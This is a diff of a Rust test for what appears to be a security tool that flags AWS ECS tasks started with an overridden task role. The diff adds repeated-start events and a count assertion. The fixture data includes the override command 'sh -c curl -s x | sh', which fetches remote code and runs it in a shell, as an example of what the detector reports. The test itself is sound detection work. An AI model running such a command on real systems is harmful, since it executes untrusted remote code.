@@ -2150,6 +2150,9 @@ fn a_task_started_with_another_role_is_an_attention_item() {
     l.add(120, "ecs.amazonaws.com", "RunTask", CI, run("", &["./migrate"], "web:1"), Value::Null);
     // A task definition registered before the logs.
     l.add(130, "ecs.amazonaws.com", "RunTask", CI, run(&admin, &[], "old:4"), Value::Null);
+    // Mary's again, twice: one item says how often.
+    l.add(140, "ecs.amazonaws.com", "RunTask", MARY, run(&admin, &[], "web:1"), Value::Null);
+    l.add(150, "ecs.amazonaws.com", "RunTask", MARY, run(&admin, &[], "web:1"), Value::Null);
     let items = attention_of(&l, AttentionKind::TaskRoleOverridden);
     assert_eq!(
         titles(&items),
@@ -2162,9 +2165,11 @@ fn a_task_started_with_another_role_is_an_attention_item() {
     let expected = format!(
         "RunTask of web:1 started at 2026-03-01 10:01:40 UTC on cluster prod from 203.0.113.12 with docker, with its task \
          role overridden: {admin} (its task definition gives {web_role}). It also ran, in place of the image's command: \
-         sh -c curl -s x | sh. The role's sessions made no call in the rows looked at."
+         sh -c curl -s x | sh. Then 2 more starts of web with that role, the last at 2026-03-01 10:02:30 UTC. The \
+         role's sessions made no call in the rows looked at."
     );
     assert!(web.why.starts_with(&expected), "{}", web.why);
+    assert_eq!((web.events, web.last - web.first), (3, 50_000));
     let old = items.iter().find(|a| a.who == CI).unwrap();
     assert!(old.why.contains("(its task definition's registration is not in these logs)."), "{}", old.why);
     // The ECS list says what each start overrode.
@@ -2183,6 +2188,8 @@ fn a_task_started_with_another_role_is_an_attention_item() {
         said,
         [
             ("", "command overridden: ./migrate"),
+            (admin.as_str(), ""),
+            (admin.as_str(), ""),
             (admin.as_str(), ""),
             (admin.as_str(), "command overridden: sh -c curl -s x | sh"),
             (web_role.as_str(), ""),
